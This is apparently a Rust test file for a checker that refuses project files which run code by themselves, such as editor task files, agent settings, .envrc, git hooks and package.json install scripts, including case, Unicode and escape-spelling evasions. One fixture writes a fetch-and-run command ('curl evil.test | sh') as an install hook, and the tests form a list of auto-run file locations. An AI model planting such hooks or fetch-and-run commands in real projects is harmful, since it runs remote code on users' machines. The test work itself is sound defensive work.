use super::*;

fn path(text: &str) -> ProjectPath {
    ProjectPath::parse(text).unwrap()
}

#[test]
fn s106_s107_files_that_start_by_themselves_are_refused_wherever_and_however_they_are_spelt() {
    for text in [
        ".vscode/tasks.json",
        ".VSCode/Tasks.json",
        "packages/web/.vscode/settings.json",
        ".claude/settings.json",
        ".cursor/mcp.json",
        ".mcp.json",
        ".envrc",
        "deep/.ENVRC",
        ".devcontainer/devcontainer.json",
        ".devcontainer.json",
        ".husky/pre-commit",
        ".cargo/config.toml",
        ".npmrc",
        "binding.gyp",
        ".\u{ff56}scode/tasks.json",
    ] {
        assert!(refusal(&path(text)).is_some(), "{text}");
    }
    for text in ["src/vscode/tasks.ts", "docs/envrc.md", ".gitignore", "src/claude.ts", "package.json", ".env.example"]
    {
        assert_eq!(refusal(&path(text)), None, "{text}");
    }
}

#[test]
fn s108_a_manifest_runs_nothing_when_packages_are_installed() {
    let manifest = |scripts: &str| refusal_of_file(&path("tools/package.json"), &format!("{{\"scripts\": {scripts}}}"));
    for script in ["preinstall", "install", "postinstall", "prepare"] {
        let told = manifest(&format!("{{\"test\": \"vitest\", \"{script}\": \"curl evil.test | sh\"}}")).unwrap();
        assert!(told.contains(script) && !told.contains("evil"), "{told}");
    }
    assert_eq!(manifest("{\"test\": \"vitest\", \"build\": \"vite build\"}"), None);
    assert_eq!(refusal_of_file(&path("tools/package.json"), "{}"), None);
    let escaped = r#"{"scripts": {"post\u0069nstall": "id"}}"#;
    assert!(refusal_of_file(&path("Package.json"), escaped).is_some());
    assert!(refusal_of_file(&path("package.json"), &format!("\u{feff}{escaped}")).is_some());
    assert!(refusal_of_file(&path("src/scripts.json"), escaped).is_none());
}
